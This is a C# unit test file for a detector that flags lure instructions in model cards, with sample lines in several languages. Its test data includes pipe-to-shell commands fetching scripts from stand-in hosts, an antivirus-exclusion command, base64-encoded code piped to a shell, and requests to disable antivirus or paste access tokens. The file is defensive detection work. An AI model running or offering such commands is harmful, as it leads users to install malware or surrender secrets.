using Assay.Impersonation.Cards;
using Assay.Impersonation.Claims;

namespace Assay.Impersonation.Tests.Claims;

public sealed class LureReaderTests
{
    [Theory]
    [InlineData("Double-click `start.bat`.", LureKind.RunProgram)]
    [InlineData("Unpack and run **setup.exe** as administrator.", LureKind.RunProgram)]
    [InlineData("```\n.\\install.ps1\n```", LureKind.RunProgram)]
    [InlineData("Press Win+R, paste the line and confirm.", LureKind.RunProgram)]
    [InlineData("Doppelklick auf start.bat genügt.", LureKind.RunProgram)]
    [InlineData("双击 start.bat 即可。", LureKind.RunProgram)]
    [InlineData("Запустите start.exe.", LureKind.RunProgram)]
    [InlineData("Run st\u200Bart.bat", LureKind.RunProgram)]
    [InlineData("First run `python loader.py`, which fetches the runtime.", LureKind.RunScriptFirst)]
    [InlineData("You must run setup.sh once to activate the weights.", LureKind.RunScriptFirst)]
    [InlineData("```bash\ncurl -sSL https://get-runtime.example/install.sh | bash\n```", LureKind.PipeToShell)]
    [InlineData("```bash\ncurl -sSL \\\n  https://get-runtime.example/install.sh \\\n  | sudo sh\n```", LureKind.PipeToShell)]
    [InlineData("`bash <(curl -s https://x.example/i)`", LureKind.PipeToShell)]
    [InlineData("`iwr https://x.example/a.txt | iex`", LureKind.PipeToShell)]
    [InlineData("`curl -fsSL https://ollama.com@x.example/install.sh | sh`", LureKind.PipeToShell)]
    [InlineData("`mshta https://x.example/a`", LureKind.PipeToShell)]
    [InlineData("If your antivirus complains, add an exception.", LureKind.DisableProtection)]
    [InlineData("Désactivez l'antivirus.", LureKind.DisableProtection)]
    [InlineData("请先关闭杀毒软件。", LureKind.DisableProtection)]
    [InlineData("`Add-MpPreference -ExclusionPath C:\\models`", LureKind.DisableProtection)]
    [InlineData("Unpack `runtime.zip` (password: `infer2026`).", LureKind.ProtectedArchive)]
    [InlineData("pip install fast-runtime --extra-index-url https://wheels.x.example/simple", LureKind.ForeignPackageIndex)]
    [InlineData("`python -c \"import base64;exec(base64.b64decode('aW1wb3J0'))\"`", LureKind.EncodedCode)]
    [InlineData("`echo aGVsbG8= | base64 -d | sh`", LureKind.EncodedCode)]
    [InlineData("Paste your access token into the form.", LureKind.HandOverSecret)]
    public void An_instruction_to_run_something_else_is_a_lure(string card, LureKind kind)
    {
        var lures = LureReader.Read(CardText.Read($"# X\n\n{card}\n"));

        Assert.Contains(lures, l => l.Kind == kind);
        Assert.All(lures, l => Assert.Contains(l.Line, card, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("pip install transformers")]
    [InlineData("```\ngit clone https://x.example/a/b\n```")]
    [InlineData("pip install torch --index-url https://download.pytorch.org/whl/cu121")]
    [InlineData("pip install llama-cpp-python --extra-index-url https://abetlen.github.io/llama-cpp-python/whl/cpu")]
    [InlineData("curl -fsSL https://ollama.com/install.sh | sh")]
    [InlineData("curl -LsSf https://astral.sh/uv/install.sh | sh")]
    [InlineData("```\ncurl https://x.example/v1/chat -d '{}' | jq .\n```")]
    [InlineData("Run `./llama-cli -m model.gguf`.")]
    [InlineData("Run koboldcpp.exe and pick the file.")]
    [InlineData("First run `python train.py`, then `python eval.py`.")]
    [InlineData("Run `python setup.py install` first.")]
    [InlineData("bash scripts/finetune.sh")]
    [InlineData("The exception handling and the password-free login of the demo.")]
    [InlineData("Classifies antivirus reports.")]
    [InlineData("Log in with your access token.")]
    [InlineData("Detects malware in .exe and .bat files.")]
    [InlineData("Run the cell to download https://x.example/files/tool.exe.json")]
    [InlineData("`model = AutoModel.from_pretrained(\"a/b\")`")]
    [InlineData("The tensor is decoded with base64.")]
    public void An_ordinary_instruction_is_none(string card) => Assert.Empty(LureReader.Read(CardText.Read($"# X\n\n{card}\n")));

    [Fact]
    public void Lures_and_claims_are_read_in_linear_time()
    {
        string[] tricks = ["curl ", "[", "](", "<a ", "```\n", "\"a/", "developed by ", "--- ", "<!--", "antivirus password zip run a.exe ", "# original model card\n", "\u200B", "base64 -d ", "由", "- ", "|", "$(curl "];
        foreach (var trick in tricks)
        {
            var card = string.Concat(Enumerable.Repeat(trick, CardText.Limit / trick.Length));
            var clock = System.Diagnostics.Stopwatch.StartNew();
            var text = CardText.Read(card);
            LureReader.Read(text);
            new ClaimExtractor(BrandPhrases.Standard).Extract(text);
            CardCredits.Of(text, "a/b");
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(6), $"{trick}: {clock.Elapsed}");
        }
    }
}
